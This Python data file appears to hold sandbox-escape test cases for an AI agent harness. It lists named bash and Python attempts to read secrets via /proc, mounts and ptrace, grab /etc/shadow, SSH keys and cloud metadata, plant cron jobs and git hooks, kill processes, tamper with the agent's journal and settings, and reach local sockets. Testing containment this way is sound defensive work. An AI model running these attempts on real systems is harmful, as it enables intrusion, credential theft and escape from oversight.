"""The attempts of a hostile program, as data: a name and a script for bash.

A script does not report its own success, except if it does something that leaves no trace
outside: then it prints THROUGH. Everything else is checked from outside (`test_escape.py`): a
secret in the output, a changed file, a server that was reached, a process that ended.

In braces: `secret` a file outside with a token, `outside` its folder, `pid` a process outside that
has the token in its environment and the file open as descriptor 9, `tcp`, `udp`, `unix`,
`abstract`, `mailbox` servers outside, `terminal` one of the user's, `shared` the id of memory that the user shares, `address` the machine's own, `python` an interpreter.
"""

from __future__ import annotations

ATTEMPTS = {
    "read": {
        "a path": "cat {secret}",
        "a relative path": "cat ../outside/secret",
        "the folder above": "cd .. && cd outside && cat secret",
        "the root of a process": "cat /proc/self/root{secret} /proc/1/root{secret} /proc/$$/root{secret}",
        "the root of one outside": "cat /proc/{pid}/root{secret}",
        "the folder of one outside": "cat /proc/{pid}/cwd/secret",
        "its descriptor": "cat /proc/{pid}/fd/9",
        "its environment": "cat /proc/{pid}/environ",
        "all environments": "cat /proc/[0-9]*/environ",
        "all command lines": "cat /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -i token-",
        "a symbolic link": "ln -s {secret} link && cat link",
        "a link to the folder": "ln -s {outside} folder && cat folder/secret",
        "a hard link": "ln {secret} hard && cat hard",
        "a hard link through proc": "ln -L /proc/self/root{secret} hard2 && cat hard2",
        "an archive": "tar cf - {outside} | tar xOf -",
        # skips gigabytes of compilers and interpreters, which may be read
        "a search": "grep -rhs --exclude-dir={{.cargo,.rustup,.pyenv,.nvm,.npm,pnpm,uv}} token- /home /root /tmp /var/tmp /srv /mnt /run",
        "a copy": "cp -r {outside} copied && cat copied/secret",
        "dd": "dd if={secret} 2>/dev/null",
        "a mount": "mkdir -p m && mount --bind {outside} m && cat m/secret",
        "a mount in a namespace": "mkdir -p m && unshare -Urm sh -c 'mount --bind {outside} m; cat m/secret'",
        "the namespaces of init": "nsenter -t 1 -a cat {secret}",
        "the namespaces of one outside": "nsenter -t {pid} -m -U cat {secret}",
        "chroot": "chroot /proc/{pid}/root cat {secret}; chroot /proc/1/root cat {secret}",
        "chroot and up": '{python} -c \'import os; os.mkdir("j"); os.chroot("j"); [os.chdir("..") for _ in range(99)]; os.chroot("."); print(open("{secret}").read())\'',
        "an overlay": "mkdir -p u w m && unshare -Urm sh -c 'mount -t overlay -o lowerdir={outside},upperdir=u,workdir=w o m; cat m/secret'",
        "tracing": "timeout 5 strace -f -p {pid} -e trace=none & sleep 0.3; timeout 2 strace -p {pid} 2>&1 | grep -q attached && echo THROUGH",
        "ptrace": "{call} 101 117 16 {pid} 0 0",
        "the memory of one outside": '{python} -c \'import re; p="/proc/{pid}/"; print([open(p + "mem", "rb") for m in open(p + "maps")] and "THR" "OUGH")\'',
        "process_vm_readv": '{python} -c \'import ctypes as c; b = c.create_string_buffer(8); v = (c.c_void_p * 2)(c.addressof(b), 8); r = (c.c_void_p * 2)(c.addressof(b), 8); print("THR" "OUGH" if c.CDLL(None).process_vm_readv({pid}, v, 1, r, 1, 0) >= 0 or c.get_errno() == 14 else "")\'',
        "pidfd_getfd": "{python} -c 'import ctypes as c, os; l = c.CDLL(None); p = l.syscall(434, {pid}, 0); f = l.syscall(438, p, 9, 0); print(os.pread(f, 99, 0))'",
        "a file handle": "{call} 304 265 0 0 0",
        "the passwords of the machine": "cat /etc/shadow >/dev/null && echo THROUGH",
        "keys of ssh": "cat /root/.ssh/* /home/*/.ssh/* >/dev/null 2>&1 && echo THROUGH",
        "private keys of the machine": "(ls /etc/ssl/private || ls /etc/pki/tls/private) && echo THROUGH",
        "the log of the kernel": "(dmesg | grep -q . || head -c 1 /dev/kmsg | grep -q .) && echo THROUGH",
        "memory of the machine": "head -c 1 /dev/mem /dev/kmem /proc/kcore 2>/dev/null | grep -q . && echo THROUGH",
        "disks": "head -qc 1 /dev/[svx]d[a-z]* /dev/nvme* /dev/loop0 /dev/dm-* 2>/dev/null | grep -qa . && echo THROUGH",
        "a device file": "mknod disk b 254 0 && head -c 1 disk && echo THROUGH; mknod mem c 1 1 && head -c 1 mem && echo THROUGH",
        "the variables of the host": "env | grep token-",
        "what the host left open": 'for f in /proc/self/fd/*; do case "$(readlink $f)" in *secret*) echo THROUGH;; esac; done',
        "keys of the kernel": "{call} 250 219 0 -3 1 | grep THROUGH",
        "the terminal": '{python} -c \'import fcntl, os; fcntl.ioctl(os.open("/dev/tty", 2), 0x5412, b"x"); print("THR" "OUGH")\'',
    },
    "write": {
        "a file": "echo x > {outside}/new",
        "a relative file": "echo x > ../outside/new",
        "an addition": "echo x >> {secret}",
        "a removal": "rm -rf {outside}/*",
        "a move": "echo x > mine; mv mine {outside}/",
        "through a link": "ln -sfn {outside} out && echo x > out/new",
        "through a link of another's": "ln -sf {secret} s && echo x > s",
        "through a process's folder": "echo x > /proc/{pid}/cwd/new",
        "through a process's root": "echo x > /proc/{pid}/root{outside}/new; echo x > /proc/1/root{outside}/new",
        "through a descriptor": "echo x > /proc/{pid}/fd/9",
        "a truncation": "truncate -s 0 {secret}",
        "a mode": "chmod 777 {secret} {outside}",
        "a time": "touch {secret}",
        "a swapped folder": "mv {outside} ./mine; mkdir {outside}",
        "the folder of the workspace": "mv $PWD $PWD.old; mkdir -p $PWD; echo x > $PWD/../new",
        "an archive that leads out": "ln -sfn .. up; echo x > new; tar cf a.tar new; tar xf a.tar -C up/outside",
        "programs of the system": ": >> /usr/local/bin/x; : >> /usr/bin/x",
        "libraries of the system": ": >> /etc/ld.so.preload; : >> /etc/ld.so.cache",
        "another terminal": "echo x > {terminal}",
        "shared memory of System V": "{call} 30 196 {shared} 0 0",
        "jobs of cron": "mkdir -p /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/x; echo '@reboot id' | crontab - && echo THROUGH",
        "jobs of systemd": "systemd-run --user id && echo THROUGH; at now <<< id && echo THROUGH",
        "settings of the kernel": "for f in core_pattern modprobe hotplug panic; do ( : > /proc/sys/kernel/$f ) 2>/dev/null && echo THROUGH; done",
        "the magic key": "( : > /proc/sysrq-trigger ) && echo THROUGH",
        "helpers of the kernel": "( : > /sys/kernel/uevent_helper ) && echo THROUGH; ( : > /sys/power/state ) && echo THROUGH",
        "a control group": "mkdir /sys/fs/cgroup/x && echo THROUGH; mkdir -p c && mount -t cgroup2 none c && echo THROUGH",
        "a remount": "mount -o remount,rw / && echo THROUGH; mount -o remount,rw /usr && echo THROUGH; mount -o remount,rw /proc/sys && echo THROUGH",
        "an unmount": "umount /proc/sys && echo THROUGH; umount -l $PWD && echo THROUGH",
        "the new mount calls": "{call} 428 428 -100 0 1; {call} 430 430 0 0; {call} 429 429 0 0 0 0 0",
        "a pivot": "{call} 155 41 0 0",
        "a disk": "for f in /dev/[svx]d[a-z] /dev/nvme0n1; do [ -b $f ] && ( : >> $f ) && echo THROUGH; done",
        "a score for the killer": "echo -1000 > /proc/{pid}/oom_score_adj",
        "the shell's start": "echo x >> /root/.bashrc; echo x >> {outside}/.bashrc",
    },
    "records": {
        "an entry": "echo '{{}}' >> .manus/journal",
        "a link in their place": "rm -f .manus/journal; ln -s {secret} .manus/journal",
        "a moved folder": "mv .manus m; mkdir .manus; echo x > .manus/journal",
        "a removed folder": "rm -rf .manus",
        "a new record": "echo x > .manus/new",
        "a file of secrets": "echo KEY=x >> .env; echo KEY=x > .env",
        "another file of secrets": "echo x > n; mv -f n .env; rm -f .env; ln -sf n .env",
        "our settings": "echo 'model = \"x\"' >> manus.toml; echo x > n; mv -f n manus.toml",
    },
    "repository": {
        "a hook": "echo 'id > pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        "a hook through a link": "ln -sfn $PWD/.git/hooks h; echo id > h/post-checkout",
        "a moved hooks folder": "mv .git/hooks .git/h; mkdir .git/hooks; echo id > .git/hooks/pre-commit",
        "a moved repository": "mv .git g && mkdir -p .git/hooks && echo id > .git/hooks/pre-commit",
        "a removed repository": "rm -rf .git; mkdir -p .git/hooks; echo id > .git/hooks/pre-commit",
        "a program in its settings": "git config core.fsmonitor id",
        "hooks from elsewhere": "git config core.hooksPath $PWD/hooks",
        "settings by hand": "printf '[core]\\n fsmonitor = id\\n' >> .git/config",
        "replaced settings": "cp .git/config c; mv c .git/config; printf '[core]\\n sshCommand = id\\n' > n; mv -f n .git/config",
    },
    "process": {
        "a signal": "kill {pid}",
        "a hard signal": "kill -9 {pid}",
        "a signal to all": "kill -9 -1",
        "a signal by name": "pkill -9 -f canary-process; killall -9 canary-process",
        "tgkill": "{call} 234 131 {pid} {pid} 9",
        "pidfd": "{python} -c 'import ctypes as c; l = c.CDLL(None); l.syscall(424, l.syscall(434, {pid}, 0), 9, None, 0)'",
        "a limit": "prlimit --pid {pid} --cpu=1 && echo THROUGH",
        "a priority": "renice -n 19 -p {pid} && echo THROUGH",
        "root by sudo": "sudo -n id && echo THROUGH; su -c id </dev/null && [ $(id -u) != 0 ] && echo THROUGH; true",
        "a namespace of users": "unshare -U true && echo THROUGH",
        "a namespace within": "unshare -m true && echo THROUGH; unshare -p -f true && echo THROUGH; unshare -n true && echo THROUGH",
        "clone with a namespace": '{python} -c \'import ctypes as c, os; p = c.CDLL(None).syscall({clone}, 0x10000000 | 17, 0, 0, 0, 0); p == 0 and os._exit(0); print("THR" "OUGH" if p > 0 else "")\'',
        "clone3 with a namespace": '{python} -c \'import ctypes as c, os; a = (c.c_uint64 * 8)(0x10000000, 0, 0, 0, 17, 0, 0, 0); p = c.CDLL(None).syscall(435, a, 64); p == 0 and os._exit(0); print("THR" "OUGH" if p > 0 else "")\'',
        "io_uring": "{call} 425 425 1 0",
        "bpf": "{call} 321 280 0 0 0",
        "perf": "{call} 298 241 0 0 -1 -1 0",
        "userfaultfd": "{call} 323 282 1",
        "a module": "{call} 175 105 0 0 0",
        "kexec": "{call} 246 104 0 0 0 0",
        "swap": "{call} 167 224 0 0",
        "the clock": 'date -s "$(date)" >/dev/null 2>&1 && echo THROUGH',
        "the name": 'hostname other 2>/dev/null && [ "$(hostname)" = other ] && echo THROUGH',
        "accounting": "{call} 163 89 0",
        "the 32-bit door": '{python} -c \'import ctypes as c; print("THR" "OUGH" if c.CDLL(None).syscall(0x40000000 + 39) > 0 else "")\'',
        "a daemon": "setsid -f sleep 4711; (setsid sleep 4711 & disown); nohup sleep 4711 >/dev/null 2>&1 &",
    },
    "network": {
        "a port": "echo x > /dev/tcp/127.0.0.1/{tcp}",
        "a port by name": "echo x > /dev/tcp/localhost/{tcp}",
        "a port by no address": "echo x > /dev/tcp/0.0.0.0/{tcp}",
        "a port by the machine's address": "echo x > /dev/tcp/{address}/{tcp}",
        "a port of IPv6": "echo x > /dev/tcp/::1/{tcp}; echo x > /dev/tcp/::ffff:127.0.0.1/{tcp}",
        "a datagram": "echo x > /dev/udp/127.0.0.1/{udp}; echo x > /dev/udp/{address}/{udp}",
        "a socket's path": '{python} -c \'import socket; s = socket.socket(1); s.connect("{unix}"); s.send(b"x")\'',
        "a socket without a path": '{python} -c \'import socket; s = socket.socket(1); s.connect("\\0{abstract}"); s.send(b"x")\'',
        "a socket's path by a link": '{python} -c \'import os, socket; os.symlink("{unix}", "l"); s = socket.socket(1); s.connect("l"); s.send(b"x")\'',
        "a socket's path in the place of one's own": '{python} -c \'import os, socket; t = socket.socket(1); t.bind("own"); t.listen(); os.unlink("own"); os.symlink("{unix}", "own"); s = socket.socket(1); s.connect("own"); s.send(b"x")\'',
        "a socket's path while it changes": """{python} - <<'END'
import ctypes, socket, threading, time
libc, ends = ctypes.CDLL(None), time.monotonic() + 1
own = socket.socket(socket.AF_UNIX); own.bind("own"); own.listen(4096)
addresses = [b"\\1\\0" + path.encode().ljust(100, b"\\0") for path in ("own", "{unix}")]
memory = ctypes.create_string_buffer(102)
def change():
    while time.monotonic() < ends:
        for address in addresses: ctypes.memmove(memory, address, 102)
threading.Thread(target=change).start()
while time.monotonic() < ends:
    with socket.socket(socket.AF_UNIX) as s:
        s.setblocking(False)  # nobody accepts, so that the queue of `own` is soon full
        libc.connect(s.fileno(), memory, 102)
END""",
        "a socket's path while its descriptor changes": """{python} - <<'END'
import os, socket, threading, time
ends = time.monotonic() + 1
tcp, local = socket.socket(), socket.socket(socket.AF_UNIX)
shared = os.dup(tcp.fileno())
def change():
    while time.monotonic() < ends:
        for s in (tcp, local): os.dup2(s.fileno(), shared)
threading.Thread(target=change).start()
both = socket.socket(socket.AF_UNIX, fileno=shared)
while time.monotonic() < ends:
    for path in ("{unix}", "\\0{abstract}"):
        try: both.connect(path); both.send(b"x")
        except OSError: pass
both.detach()
END""",
        "a socket made outside": "{python} -c 'import socket; socket.socket(1).bind(\"{outside}/made\")'",
        "a socket made outside by a link": '{python} -c \'import os, socket; os.symlink("{outside}", "l"); socket.socket(1).bind("l/made")\'',
        "a datagram to a socket's path": '{python} -c \'import socket; socket.socket(1, 2).sendto(b"x", "{mailbox}")\'',
        "a datagram from a pair of sockets": '{python} -c \'import socket; socket.socketpair(1, 2)[0].sendto(b"x", "{mailbox}")\'',
        "a pair of sockets that is connected anew": '{python} -c \'import socket; s, t = socket.socketpair(1, 2); s.connect("{mailbox}"); s.send(b"x")\'',
        "curl": "curl -sm 5 --noproxy '*' http://127.0.0.1:{tcp}/ http://{address}:{tcp}/",
        "the proxy": "curl -sm 5 -x $http_proxy http://127.0.0.1:{tcp}/",
        "the proxy by the machine's address": "curl -sm 5 -x $http_proxy http://{address}:{tcp}/",
        "the proxy by name": "curl -sm 5 -x $http_proxy --noproxy '' http://localhost:{tcp}/",
        "the proxy by a number": "curl -sm 5 -x $http_proxy http://2130706433:{tcp}/ http://0x7f000001:{tcp}/ http://0177.1:{tcp}/",
        "the proxy by IPv6": "curl -sm 5 -x $http_proxy http://[::1]:{tcp}/ http://[::ffff:127.0.0.1]:{tcp}/ http://[64:ff9b::7f00:1]:{tcp}/",
        "the proxy's tunnel": "curl -sm 5 -p -x $http_proxy http://127.0.0.1:{tcp}/",
        "metadata of a cloud": "curl -sm 5 -x $http_proxy http://169.254.169.254/ -o meta && grep -v 169.254 meta | grep -qi 'ami-id' && echo THROUGH",
        "a raw socket": '{python} -c \'import socket; socket.socket(2, 3, 1); print("THR" "OUGH")\'',
        "a packet socket": '{python} -c \'import socket; socket.socket(17, 3, 768); print("THR" "OUGH")\'',
        "multipath TCP": '{python} -c \'import socket; s = socket.socket(2, 1, 262); s.connect(("127.0.0.1", {tcp})); s.send(b"x")\'',
        "multipath TCP of IPv6": '{python} -c \'import socket; s = socket.socket(10, 1, 262); s.connect(("::ffff:127.0.0.1", {tcp})); s.send(b"x")\'',
        "fast open by sendto": '{python} -c \'import socket; s = socket.socket(2, 1); s.sendto(b"x", 0x20000000, ("127.0.0.1", {tcp}))\'',
        "fast open by sendmsg": '{python} -c \'import socket; s = socket.socket(2, 1); s.sendmsg([b"x"], [], 0x20000000, ("127.0.0.1", {tcp}))\'',
        "SCTP": "{python} -c 'import socket; s = socket.socket(2, 1, 132); s.connect((\"127.0.0.1\", {tcp}))'",
        "the host of a virtual machine": '{python} -c \'import socket; socket.socket(40, 1); print("THR" "OUGH")\'',
        "a seldom used protocol family": '{python} -c \'import socket; socket.socket(38, 5); print("THR" "OUGH")\'',
        "a route": "ip route add 10.9.8.0/24 dev lo 2>/dev/null && echo THROUGH",
        "another network": "nsenter -t {pid} -n true && echo THROUGH",
    },
}
ALL = {
    f"{kind}: {name}": script
    for kind, scripts in ATTEMPTS.items()
    for name, script in scripts.items()
}
